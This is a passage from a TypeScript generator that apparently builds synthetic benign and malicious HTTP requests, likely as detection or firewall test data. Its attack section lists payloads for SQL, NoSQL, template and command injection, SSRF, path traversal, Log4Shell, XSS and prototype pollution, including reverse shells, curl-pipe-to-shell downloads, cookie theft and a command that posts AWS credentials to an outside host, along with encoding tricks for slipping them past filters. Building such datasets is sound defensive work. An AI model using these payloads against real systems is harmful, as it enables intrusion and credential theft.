            ':rotating_light: *[FIRING:1] HighErrorRate* api (prod)\n>error rate 7.2% > 5% for 5m\n<https://grafana.acme.example/d/abc?orgId=1&var-env=prod&from=now-1h|Dashboard> | <https://runbooks.acme.example/api#high-error-rate|Runbook>',
            ':white_check_mark: Deploy *api@1.42.0* to prod succeeded (by @jdoe, 4m12s)',
            'Build #8812 failed on `main`: `test:integration` — `Error: connect ECONNREFUSED 127.0.0.1:5432`',
          ]),
          attachments: [
            {
              color: '#d00000',
              fields: [
                { title: 'alertname', value: 'HighErrorRate', short: true },
                { title: 'instance', value: '10.0.4.12:9100', short: true },
              ],
            },
          ],
        },
      ),
    () =>
      gql(
        'chat',
        '/graphql',
        'query Thread($channel: ID!, $ts: String!) { thread(channel: $channel, ts: $ts) { replies(first: 50) { user { name avatar } text ts reactions { name count } files { name url_private } } } }',
        { channel: ch(), ts: ts() },
        'Thread',
      ),
    () =>
      jsonPatch('chat', `/api/users.profile/${oid('u')}`, [
        {
          op: 'replace',
          path: '/status_text',
          value: pick(['🌴 OOO until 3/24', 'in a meeting', 'heads down – deploy day', 'Urlaub bis 24.03.']),
        },
        { op: 'replace', path: '/status_emoji', value: pick([':palm_tree:', ':calendar:', ':no_bell:']) },
        { op: 'add', path: '/fields/pronouns', value: pick(['she/her', 'he/him', 'they/them']) },
      ]),
    () => delReq('chat', `/api/chat.delete?${qs({ channel: ch(), ts: ts() })}`),
    () =>
      jsonApiReq('chat', 'POST', '/api/v2/reminders', {
        data: {
          type: 'reminders',
          attributes: {
            text: pick([
              'rotate staging TLS cert (expires 04/02)',
              'check if `backup-db` cron passes tonight',
              "follow up with legal re: O'Reilly MSA",
            ]),
            time: iso(),
            recurrence: pick([null, 'FREQ=WEEKLY;BYDAY=MO']),
          },
        },
      }),
  ];
  return roundRobin(t, 56);
}

// ================================================================ attacks
/** Where an attacker-controlled value lands: the JSON body builder and the matching query/form field. */
interface Site {
  readonly d: Dom;
  readonly method: string;
  readonly path: () => string;
  readonly field: string;
  readonly place: (v: unknown) => unknown;
}

const INJECTION_SITES: readonly Site[] = [
  {
    d: 'clm',
    method: 'POST',
    path: () => '/api/v2/contracts',
    field: 'counterparty',
    place: (v) => ({
      contract: {
        title: 'Mutual NDA – Acme',
        counterparty: { name: v, signatory_email: pick(EMAILS) },
        value: { amount: 25000, currency: 'USD' },
      },
    }),
  },
  {
    d: 'clm',
    method: 'POST',
    path: () => `/api/v2/contracts/${oid('ctr')}/comments`,
    field: 'body',
    place: (v) => ({
      comment: { body: v, anchor: { clause_id: oid('cl'), start: 12, end: 80 }, visibility: 'internal' },
    }),
  },
  {
    d: 'clm',
    method: 'POST',
    path: () => '/api/v2/clauses/search',
    field: 'q',
    place: (v) => ({ query: { text: v, filters: { status: ['executed'], lang: 'en' } }, page: { size: 25 } }),
  },
  {
    d: 'build',
    method: 'POST',
    path: () => `/rest/v1.0/projects/${int(100000, 999999)}/rfis`,
    field: 'subject',
    place: (v) => ({
      rfi: { subject: v, question: { body: pick(RFI_Q) }, spec_section: '09 21 16', due_date: day() },
    }),
  },
  {
    d: 'build',
    method: 'POST',
    path: () => `/rest/v1.0/projects/${int(100000, 999999)}/punch_items`,
    field: 'location',
    place: (v) => ({ punch_item: { name: pick(PUNCH), location: v, trade: 'Painting', priority: 'low' } }),
  },
  {
    d: 'gen',
    method: 'POST',
    path: () => '/api/v3/records/search',
    field: 'surname',
    place: (v) => ({
      criteria: { surname: v, given: 'Bridget', birth_year: 1862, range: 5 },
      collection: 'parish',
    }),
  },
  {
    d: 'gen',
    method: 'POST',
    path: () => `/api/v3/trees/t${int(10000000, 99999999)}/persons`,
    field: 'given',
    place: (v) => ({
      person: {
        names: [{ given: v, surname: pick(SURNAMES), type: 'birth' }],
        sex: 'F',
        events: [{ type: 'birth', date: 'abt 1862' }],
      },
    }),
  },
  {
    d: 'pub',
    method: 'POST',
    path: () => '/api/v1/submissions',
    field: 'affiliation',
    place: (v) => ({
      submission: {
        title: 'Heavy-Tailed Noise in SGD',
        abstract: pick(ABSTRACTS),
        authors: [{ name: pick(PEOPLE), affiliation: v, corresponding: true }],
      },
    }),
  },
  {
    d: 'pub',
    method: 'POST',
    path: () => `/api/v1/submissions/JMLR-D-26-0${int(1000, 9999)}/reviews`,
    field: 'comments_to_editor',
    place: (v) => ({
      review: {
        round: 1,
        recommendation: 'minor_revision',
        comments_to_authors: pick(REVIEW_COMMENTS),
        comments_to_editor: v,
      },
    }),
  },
  {
    d: 'survey',
    method: 'POST',
    path: () => `/v3/surveys/SV_${str(15)}/responses`,
    field: 'why',
    place: (v) => ({
      response: {
        respondent: { email: pick(EMAILS) },
        answers: [
          { question_id: 'QID1', type: 'nps', value: 3 },
          { question_id: 'QID2', type: 'text', value: v },
        ],
      },
    }),
  },
  {
    d: 'survey',
    method: 'POST',
    path: () => '/v3/responses/query',
    field: 'filter[text][contains]',
    place: (v) => ({ filter: { nps: { lte: 6 }, text: { contains: v } }, sort: '-submitted_at' }),
  },
  {
    d: 'flow',
    method: 'POST',
    path: () => `/webhook/${uuid()}`,
    field: 'message',
    place: (v) => ({
      event: 'form_response',
      form_response: {
        form_id: str(8),
        answers: [
          { type: 'email', email: pick(EMAILS), field: { ref: 'email' } },
          { type: 'long_text', text: v, field: { ref: 'message' } },
        ],
      },
    }),
  },
  {
    d: 'flow',
    method: 'POST',
    path: () => '/rest/executions/search',
    field: 'workflowId',
    place: (v) => ({ filter: { workflowId: v, status: 'error' }, limit: 20 }),
  },
  {
    d: 'sheet',
    method: 'POST',
    path: () => `/v4/spreadsheets/1${str(43, B64URL)}/values:batchUpdate`,
    field: 'value',
    place: (v) => ({ valueInputOption: 'RAW', data: [{ range: 'Sheet1!A2:B2', values: [['Acme', v]] }] }),
  },
  {
    d: 'sheet',
    method: 'PATCH',
    path: () => `/v4/spreadsheets/1${str(43, B64URL)}/properties`,
    field: 'title',
    place: (v) => ({ title: v, locale: 'en_US' }),
  },
  {
    d: 'chat',
    method: 'POST',
    path: () => '/api/chat.postMessage',
    field: 'text',
    place: (v) => ({ channel: `C${str(10, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}`, text: v, mrkdwn: true }),
  },
  {
    d: 'chat',
    method: 'POST',
    path: () => '/api/search.messages',
    field: 'query',
    place: (v) => ({ query: v, sort: 'timestamp', count: 20 }),
  },
  {
    d: 'chat',
    method: 'POST',
    path: () => `/api/users.profile/${oid('u')}`,
    field: 'display_name',
    place: (v) => ({ profile: { display_name: v, status_text: 'heads down', fields: { title: 'SRE' } } }),
  },
];

const SSRF_SITES: readonly Site[] = [
  {
    d: 'flow',
    method: 'PUT',
    path: () => `/rest/workflows/${str(16)}/nodes/${uuid()}`,
    field: 'url',
    place: (v) => ({
      node: { type: 'http.request', parameters: { method: 'GET', url: v, options: { timeout: 10000 } } },
    }),
  },
  {
    d: 'flow',
    method: 'POST',
    path: () => '/rest/credentials',
    field: 'baseUrl',
    place: (v) => ({
      name: 'Internal API',
      type: 'httpHeaderAuth',
      data: { baseUrl: v, name: 'X-Api-Key', value: str(32) },
    }),
  },
  {
    d: 'chat',
    method: 'POST',
    path: () => '/api/links.preview',
    field: 'url',
    place: (v) => ({ url: v, channel: `C${str(10)}` }),
  },
  {
    d: 'chat',
    method: 'POST',
    path: () => `/api/users.profile/${oid('u')}`,
    field: 'image_url',
    place: (v) => ({ profile: { image_url: v, display_name: pick(PEOPLE) } }),
  },
  {
    d: 'sheet',
    method: 'POST',
    path: () => '/v4/spreadsheets/import',
    field: 'source_url',
    place: (v) => ({ source: { url: v, format: 'csv' }, title: 'Leads (from CRM)' }),
  },
  {
    d: 'survey',
    method: 'POST',
    path: () => '/v3/webhooks',
    field: 'target_url',
    place: (v) => ({ subscription: { target_url: v, events: ['response.created'], secret: str(24) } }),
  },
  {
    d: 'gen',
    method: 'POST',
    path: () => `/api/v3/persons/I${int(1, 5000)}/media`,
    field: 'source_url',
    place: (v) => ({ media: { source_url: v, caption: 'Bridget c.1890', kind: 'photo' } }),
  },
  {
    d: 'pub',
    method: 'POST',
    path: () => `/api/v1/submissions/JMLR-D-26-0${int(1000, 9999)}/artifacts`,
    field: 'url',
    place: (v) => ({ artifact: { kind: 'dataset', url: v, license: 'CC-BY-4.0' } }),
  },
  {
    d: 'clm',
    method: 'POST',
    path: () => '/api/v2/integrations',
    field: 'site_url',
    place: (v) => ({
      integration: { type: 'sharepoint', site_url: v, folder: '/Shared Documents/Contracts' },
    }),
  },
  {
    d: 'build',
    method: 'POST',
    path: () => `/rest/v1.0/projects/${int(100000, 999999)}/documents/import`,
    field: 'source_url',
    place: (v) => ({ document: { source_url: v, folder: '/Drawings/Current Set', name: 'A-501.pdf' } }),
  },
];

const PATH_SITES: readonly Site[] = [
  {
    d: 'clm',
    method: 'POST',
    path: () => `/api/v2/contracts/${oid('ctr')}/render`,
    field: 'template',
    place: (v) => ({ render: { template: v, format: 'pdf', locale: 'en-US' } }),
  },
  {
    d: 'build',
    method: 'POST',
    path: () => `/rest/v1.0/projects/${int(100000, 999999)}/documents/move`,
    field: 'to',
    place: (v) => ({ move: { from: '/Drawings/Current Set/A-501.pdf', to: v } }),
  },
  {
    d: 'gen',
    method: 'POST',
    path: () => `/api/v3/persons/I${int(1, 5000)}/media`,
    field: 'filename',
    place: (v) => ({ media: { filename: v, caption: 'Headstone, Calvary Cem.', kind: 'photo' } }),
  },
  {
    d: 'pub',
    method: 'POST',
    path: () => `/api/v1/submissions/JMLR-D-26-0${int(1000, 9999)}/files/fetch`,
    field: 'name',
    place: (v) => ({ file: { name: v, role: 'supplement' } }),
  },
  {
    d: 'survey',
    method: 'POST',
    path: () => '/v3/exports',
    field: 'filename',
    place: (v) => ({ export: { survey_id: `SV_${str(15)}`, filename: v, format: 'csv' } }),
  },
  {
    d: 'flow',
    method: 'PUT',
    path: () => `/rest/workflows/${str(16)}/nodes/${uuid()}`,
    field: 'filePath',
    place: (v) => ({ node: { type: 'files.read', parameters: { filePath: v, dataPropertyName: 'data' } } }),
  },
  {
    d: 'sheet',
    method: 'POST',
    path: () => `/v4/spreadsheets/1${str(43, B64URL)}/export`,
    field: 'attachment',
    place: (v) => ({ export: { format: 'xlsx', attachment: v } }),
  },
  {
    d: 'chat',
    method: 'POST',
    path: () => '/api/files.info',
    field: 'file',
    place: (v) => ({ file: v, include_preview: true }),
  },
  {
    d: 'chat',
    method: 'POST',
    path: () => '/api/users.prefs',
    field: 'locale',
    place: (v) => ({ prefs: { locale: v, theme: 'dark' } }),
  },
];

const PAYLOADS = {
  sql: [
    "' OR '1'='1' -- ",
    "1' UNION SELECT username, password_hash, NULL FROM users-- -",
    "x'; DROP TABLE contracts;--",
    "' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "1' AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))-- ",
    "'; WAITFOR DELAY '0:0:5'--",
    '1) OR pg_sleep(5)--',
    "admin'/**/OR/**/1=1#",
    '-1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables--',
    "' || (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END FROM dual) || '",
    "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "x' AND updatexml(null,concat(0x3a,user()),null)-- -",
    "'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.7/x|sh';--",
    "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'",
  ],
  nosql: [
    { $ne: null },
    { $gt: '' },
    { $regex: '^adm', $options: 'i' },
    { $where: 'sleep(5000) || true' },
    { $where: "this.password.match(/^a.*/) && this.role == 'admin'" },
    { $or: [{}, { a: 'a' }] },
    { $expr: { $gt: [{ $strLenCP: '$password' }, 0] } },
    { $function: { body: 'function() { sleep(5000); return true; }', args: [], lang: 'js' } },
    { $in: ['admin', 'root', 'superuser'] },
    { $nin: [''] },
    "'; return true; var dummy='",
    "a' || '1'=='1",
    { $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'leak' } },
    { $exists: true, $ne: '' },
  ] as unknown[],
  template: [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))$rt.getRuntime().exec('whoami')",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "*{T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('curl http://203.0.113.7/$(hostname)').read()}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /etc/passwd')\")()}}",
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    '{{ $json.x.constructor.constructor("return process.env")() }}',
    '{php}echo `id`;{/php}',
  ],
  command: [
    '; cat /etc/passwd',
    '| nc 203.0.113.7 4444 -e /bin/sh',
    '$(curl -s http://203.0.113.7/x.sh | sh)',
    '`id`',
    '&& wget http://198.51.100.23/bot -O /tmp/.b && chmod +x /tmp/.b && /tmp/.b',
    '; bash -i >& /dev/tcp/203.0.113.7/443 0>&1',
    '|| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    '$(sleep 10)',
    ';{cat,/etc/shadow}',
    'x;IFS=,;b=cat,/etc/passwd;$b',
    '\'; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\' #',
    '\n/bin/busybox wget http://198.51.100.23/mips -O- | sh\n',
    '& certutil -urlcache -split -f http://203.0.113.7/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe',
    '; curl -X POST -d @/root/.aws/credentials http://203.0.113.7/c',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//....//etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '/var/www/app/../../../etc/shadow',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '../../../../../../root/.ssh/id_rsa',
    '..%252f..%252f..%252fetc%252fpasswd',
    '/proc/self/cwd/config/secrets.yml',
    '../../.env',
    'C:\\..\\..\\Windows\\System32\\drivers\\etc\\hosts',
    '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
    '..;/..;/..;/WEB-INF/web.xml',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
    'http://2852039166/latest/user-data',
    'http://127.0.0.1:6379/',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'http://localhost:2375/containers/json',
    'file:///etc/passwd',
    'http://169.254.170.2/v2/credentials',
    'http://0x7f000001:8500/v1/agent/self',
    'dict://127.0.0.1:11211/stats',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
    'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    'http://evil.example@169.254.169.254/latest/meta-data/',
    'http://127.1:9200/_cat/indices?v',
    'http://[fd00:ec2::254]/latest/api/token',
  ],
  log4shell: [
    '${jndi:ldap://203.0.113.7:1389/a}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://x.oast.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.9/o}',
    '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.oast.example}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7/a}',
    '${jndi:rmi://203.0.113.7:1099/Exploit}',
    '${${upper:j}ndi:ldaps://203.0.113.7/b}',
    '${jndi:ldap://${hostName}.c7x.oast.example/}',
    '${${lower:jnd}${lower:i}:ldap://198.51.100.9:389/Basic/Command/Base64/aWQ=}',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.7/z}',
    '${jndi:ldap://127.0.0.1#evil.oast.example:1389/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.7/d}",
    '${jndi:iiop://203.0.113.7/q}',
  ],
  xss: [
    "<script>fetch('https://203.0.113.7/c?'+document.cookie)</script>",
    '<img src=x onerror=alert(document.domain)>',
    "<svg/onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    'javascript:alert(document.cookie)',
    '"><iframe src=javascript:alert(1)>',
    "<details open ontoggle=fetch('//x.oast.example/'+localStorage.token)>",
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '<body onpageshow=alert(1)>',
    '<input autofocus onfocus=alert(document.cookie)>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '[click me](javascript:fetch(`//203.0.113.7/?c=${document.cookie}`))',
  ],
};

const MARK = '\u0000H19MARK\u0000';
const MARK_JSON = JSON.stringify(MARK);

/** Escapes every non-alphanumeric character and every third letter as `\uXXXX`. */
function uEscape(s: string): string {
  let out = '';
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    const ch = s[i] as string;
    if (/[a-zA-Z0-9 ]/.test(ch) && i % 3 !== 0) out += ch;
    else out += `\\u${c.toString(16).padStart(4, '0')}`;
  }
  return out;
}
/** Serializes `place(MARK)` and splices raw JSON text in place of the marker. */
function spliceRaw(obj: unknown, rawJson: string): string {
  return JSON.stringify(obj).replace(MARK_JSON, () => rawJson);
}
/** Flattens a value into bracket-notation query/form pairs (qs-style). */
function bracketPairs(prefix: string, v: unknown): Array<[string, string]> {
  if (v !== null && typeof v === 'object') {
    const out: Array<[string, string]> = [];
    for (const [k, sub] of Object.entries(v as Record<string, unknown>))
      out.push(...bracketPairs(`${prefix}[${k}]`, sub));
    return out;
  }
  return [[prefix, v === null ? '' : String(v)]];
}
const encPairs = (pairs: ReadonlyArray<readonly [string, string]>): string =>
  pairs
    .map(
      ([k, v]) =>
        `${encodeURIComponent(k).replace(/%5B/g, '[').replace(/%5D/g, ']')}=${encodeURIComponent(v)}`,
    )
    .join('&');
const asText = (v: unknown): string => (typeof v === 'string' ? v : JSON.stringify(v));
const headerSafe = (s: string): string => s.replace(/[\r\n]/g, (c) => (c === '\n' ? '%0a' : '%0d'));

function attackReq(d: Dom, method: string, path: string, body: string, ct: string, extra: Headers = {}): Req {
  return {
    kind: 'attack',
    method,
    path,
    headers: headers(d, body ? { 'content-type': ct, ...extra } : extra),
    body,
  };
}

/** Hides `v` at `site` using technique `tech`. */
function embed(site: Site, v: unknown, tech: string): Req {
  const p = site.path();
  const json = 'application/json';
  const benign = pick(['urgent', 'Q1', 'follow-up', 'Kelly', 'export']);
  switch (tech) {
    case 'nested-field':
      return attackReq(site.d, site.method, p, JSON.stringify(site.place(v)), json);
    case 'array-element':
      return attackReq(site.d, site.method, p, JSON.stringify(site.place([benign, v])), json);
    case 'object-key':
      return attackReq(
        site.d,
        site.method,
        p,
        JSON.stringify(site.place({ [asText(v)]: true, note: benign })),
        json,
      );
    case 'unicode-escape': {
      if (typeof v === 'string')
        return attackReq(site.d, site.method, p, spliceRaw(site.place(MARK), `"${uEscape(v)}"`), json);
      const raw = JSON.stringify(v).replace(/"\$/g, '"\\u0024').replace(/_/g, '\\u005f');
      return attackReq(site.d, site.method, p, spliceRaw(site.place(MARK), raw), json);
    }
    case 'json-in-string':
      return attackReq(
        site.d,
        site.method,
        p,
        JSON.stringify(site.place(JSON.stringify({ op: 'eq', value: v, meta: { source: 'import' } }))),
        json,
      );
    case 'url-encoded-in-string':
      return attackReq(
        site.d,
        site.method,
        p,
        JSON.stringify(site.place(`${site.field}=${encodeURIComponent(asText(v))}&page=1`)),
        json,
      );
    case 'base64-in-string':
      return attackReq(
        site.d,
        site.method,
        p,
        JSON.stringify(site.place(pick(['', 'data:text/plain;base64,']) + b64(asText(v)))),
        json,
      );
    case 'double-encoding': {
      const pairs =
        typeof v === 'string'
          ? `${encodeURIComponent(site.field)}=${encodeURIComponent(encodeURIComponent(v))}`
          : encPairs(bracketPairs(site.field, v)).replace(/%/g, '%25');
      return attackReq(site.d, 'GET', `${p}?${pairs}&page=1`, '', json);
    }
    case 'query-string': {
      const pairs = encPairs(typeof v === 'string' ? [[site.field, v]] : bracketPairs(site.field, v));
      return attackReq(site.d, 'GET', `${p}?${pairs}&limit=${pick([20, 50])}`, '', json);
    }
    case 'graphql-variables': {
      const op = pick(['SaveRecord', 'UpdateEntity', 'Search']);
      const body = {
        operationName: op,
        query: `mutation ${op}($input: JSON!) { ${op.charAt(0).toLowerCase() + op.slice(1)}(input: $input) { id updatedAt } }`,
        variables: { input: site.place(v) },
      };
      return attackReq(site.d, 'POST', '/graphql', JSON.stringify(body), json);
    }
    case 'graphql-get': {
      const path = `/graphql?${qs({ operationName: 'Search', query: 'query Search($f: JSON) { search(filter: $f) { id } }', variables: JSON.stringify({ f: site.place(v) }) })}`;
      return attackReq(site.d, 'GET', path, '', json);
    }
    case 'header': {
      const name = pick([
        'user-agent',
        'referer',
        'x-forwarded-for',
        'x-api-version',
        'x-client-trace',
        'cookie',
      ]);
      const val = headerSafe(asText(v));
      const hv =
        name === 'cookie'
          ? `session=${str(32)}; locale=${val}`
          : name === 'referer'
            ? `https://app.example/${val}`
            : val;
      return attackReq(site.d, site.method, p, JSON.stringify(site.place(benign)), json, { [name]: hv });
    }
    case 'form-body': {
      const pairs: Array<[string, string]> =
        typeof v === 'string' ? [[site.field, v]] : bracketPairs(site.field, v);
      pairs.push(['_csrf', str(32)], ['submit', 'Save']);
      return attackReq(site.d, 'POST', p, encPairs(pairs), 'application/x-www-form-urlencoded');
    }
    case 'multipart-part': {
      const { boundary, body } = multipartBody([
        { name: 'meta', type: 'application/json', content: JSON.stringify(site.place(v)) },
        { name: site.field, content: asText(v) },
        {
          name: 'file',
          filename: pick(['notes.txt', 'export.csv']),
          type: 'text/plain',
          content: 'id,name\n1,test\n',
        },
      ]);
      return attackReq(site.d, 'POST', p, body, `multipart/form-data; boundary=${boundary}`);
    }
    case 'ndjson-line': {
      const lines = [site.place(benign), site.place(v), site.place(pick(['ok', 'n/a']))].map((l) =>
        JSON.stringify(l),
      );
      return attackReq(site.d, 'POST', `${p}/bulk`, lines.join('\n') + '\n', 'application/x-ndjson');
    }
    case 'json-patch-value':
      return attackReq(
        site.d,
        'PATCH',
        p,
        JSON.stringify([
          { op: 'test', path: '/version', value: 3 },
          { op: 'replace', path: `/${site.field.replace(/\W+/g, '_')}`, value: v },
        ]),
        'application/json-patch+json',
      );
    case 'merge-patch':
      return attackReq(site.d, 'PATCH', p, JSON.stringify(site.place(v)), 'application/merge-patch+json');
    case 'jsonapi-attribute':
      return attackReq(
        site.d,
        'POST',
        p,
        JSON.stringify({ data: { type: 'records', attributes: site.place(v) } }),
        'application/vnd.api+json',
      );
    default:
      throw new Error(`unknown technique ${tech}`);
  }
}

const STRING_TECHS = [
  'nested-field',
  'array-element',
  'object-key',
  'unicode-escape',
  'json-in-string',
  'url-encoded-in-string',
  'base64-in-string',
  'double-encoding',
  'query-string',
  'graphql-variables',
  'graphql-get',
  'header',
  'form-body',
  'multipart-part',
  'ndjson-line',
  'json-patch-value',
  'merge-patch',
  'jsonapi-attribute',
];
const NOSQL_TECHS = [
  'nested-field',
  'array-element',
  'unicode-escape',
  'json-in-string',
  'query-string',
  'form-body',
  'graphql-variables',
  'merge-patch',
  'ndjson-line',
  'json-patch-value',
  'jsonapi-attribute',
  'double-encoding',
  'url-encoded-in-string',
];
const URL_TECHS = STRING_TECHS.filter((t) => t !== 'object-key');

function familyAttacks(
  family: string,
  payloads: readonly unknown[],
  sites: readonly Site[],
  techs: readonly string[],
  n: number,
): Req[] {
  const out: Req[] = [];
  for (let i = 0; i < n; i++) {
    const tech = techs[i % techs.length] as string;
    const v = payloads[(i * 5 + 1 + Math.floor(i / techs.length)) % payloads.length];
    const r = embed(pick(sites), v, tech);
    out.push({ ...r, family, technique: tech });
  }
  return out;
}

/** Prototype pollution needs raw keys (`__proto__` cannot be an own key of an object literal). */
function pollutionAttacks(): Req[] {
  const s = (): Site => pick(INJECTION_SITES);
  const json = 'application/json';
  const gadgets = [
    '{"__proto__":{"isAdmin":true}}',
    '{"__proto__":{"role":"admin","permissions":["*"]}}',
    '{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').execSync(\'curl http://203.0.113.7/$(id|base64)\');var __tmp2"}}',
    '{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}',
    '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"__proto__":{"pendingContent":"<script>alert(document.domain)</script>"}}',
    '{"__proto__":{"sourceURL":"\\u2028\\u2029\\nprocess.mainModule.require(\'child_process\').execSync(\'id\')"}}',
    '{"__proto__":{"allowedHosts":["*"],"debug":true}}',
    '{"constructor":{"prototype":{"toString":"polluted","valueOf":1}}}',
  ];
  const out: Array<Req & { technique: string }> = [];
  const add = (technique: string, r: Req): void => {
    out.push({ ...r, technique });
  };
  for (let i = 0; i < 10; i++) {
    const g = gadgets[i] as string;
    const site = s();
    add(
      'nested-object-key',
      attackReq(site.d, site.method, site.path(), spliceRaw(site.place(MARK), g), json),
    );
  }
  for (const g of [gadgets[0], gadgets[2], gadgets[5]] as string[]) {
    const site = s();
    add(
      'merge-patch',
      attackReq(
        site.d,
        'PATCH',
        site.path(),
        `{"settings":{"theme":"dark","prefs":${g}}}`,
        'application/merge-patch+json',
      ),
    );
  }
  for (const path of ['/__proto__/isAdmin', '/constructor/prototype/role', '/settings/__proto__/polluted']) {
    const site = s();
    add(
      'json-patch-path',
      attackReq(
        site.d,
        'PATCH',
        site.path(),
        JSON.stringify([{ op: 'add', path, value: path.endsWith('role') ? 'admin' : true }]),
        'application/json-patch+json',
      ),
    );
  }
  for (const q of [
    '__proto__[isAdmin]=true',
    'constructor[prototype][role]=admin',
    'filter[__proto__][polluted]=1',
    '__proto__.toString=x',
  ]) {
    const site = s();
    add('query-string', attackReq(site.d, 'GET', `${site.path()}?${q}&page=1`, '', json));
  }
  {
    const site = s();
    add(
      'double-encoding',
      attackReq(site.d, 'GET', `${site.path()}?%255F%255Fproto%255F%255F%255BisAdmin%255D=true`, '', json),
    );
  }
  for (const f of [
    '__proto__[role]=admin&name=Bridget',
    'user[constructor][prototype][isAdmin]=true&user[name]=x',
  ]) {
    const site = s();
    add('form-body', attackReq(site.d, 'POST', site.path(), f, 'application/x-www-form-urlencoded'));
  }
  {
    const site = s();
    const { boundary, body } = multipartBody([
      { name: '__proto__[isAdmin]', content: 'true' },
      { name: 'title', content: 'Q1 Forecast' },
    ]);
    add(
      'multipart-part',
      attackReq(site.d, 'POST', site.path(), body, `multipart/form-data; boundary=${boundary}`),
    );
  }
  {
    const site = s();
    add(
      'unicode-escape',
      attackReq(
        site.d,
        site.method,
        site.path(),
        spliceRaw(site.place(MARK), '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}'),
        json,
      ),
    );
  }
  {
    const site = s();
    add(
      'unicode-escape',
      attackReq(
        site.d,
        site.method,
        site.path(),
        spliceRaw(site.place(MARK), '{"constr\\u0075ctor":{"prot\\u006ftype":{"role":"admin"}}}'),
        json,
      ),
    );
  }
  {
    const site = s();
    add(
      'json-in-string',
      attackReq(site.d, site.method, site.path(), JSON.stringify(site.place(gadgets[0])), json),
    );
  }
  {
    const site = s();
    add(
      'base64-in-string',
      attackReq(
        site.d,
        site.method,
        site.path(),
        JSON.stringify(site.place(b64(gadgets[1] as string))),
        json,
      ),
    );
  }
  {
    const site = s();
    add(
      'dotted-path-value',
      attackReq(
        site.d,
        'POST',
        site.path(),
        JSON.stringify({ set: { path: '__proto__.isAdmin', value: true } }),
        json,
      ),
    );
  }
  {
    const site = s();
    add(
      'dotted-path-value',
      attackReq(
        site.d,
        'POST',
        site.path(),
        JSON.stringify({ field: 'constructor.prototype.shell', value: 'node' }),
        json,
      ),
    );
  }
  {
    const site = s();
    add(
      'array-element',
      attackReq(site.d, site.method, site.path(), `{"items":[{"id":1,"name":"ok"},${gadgets[0]}]}`, json),
    );
  }
  {
    const site = s();
    add(
      'graphql-variables',
      attackReq(
        site.d,
        'POST',
